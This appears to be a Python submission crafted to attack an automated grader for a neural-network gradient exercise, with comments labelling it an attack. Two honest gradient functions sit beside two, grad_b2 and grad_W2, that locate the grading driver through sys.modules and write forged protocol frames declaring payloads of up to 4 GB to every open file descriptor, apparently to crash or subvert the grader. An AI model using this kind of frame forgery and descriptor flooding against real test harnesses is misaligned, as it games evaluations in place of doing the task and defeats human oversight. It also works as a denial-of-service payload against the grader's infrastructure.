# attack: B6 announces a payload of 4 GB, and one just below the limit
# gains nothing: grad_b2, grad_W2
# full marks: grad_oa, grad_ha
import os as system
import struct
import sys

import numpy as np


DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
DONE = getattr(DRIVER, "DONE", 15)


def frame(kind, number, payload=b""):
    return struct.pack("<BII", kind, number, len(payload)) + payload


def texts(*parts):
    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def array(shape, content):
    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content


def everywhere(data, first=0):
    """Write to every descriptor that takes it."""
    for descriptor in range(first, 256):
        try:
            system.set_blocking(descriptor, False)
            system.write(descriptor, data)
        except OSError:
            pass


def grad_b2(grad_oa):
    everywhere(struct.pack("<BII", 7, 0, 0xFFFFFFFF) + bytes(1000), 3)
    return 0 * grad_oa


def grad_W2(grad_oa, hs):
    everywhere(struct.pack("<BII", 7, 0, 9 * 2**20) + bytes(30000), 3)
    return 0 * np.outer(grad_oa, hs)


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
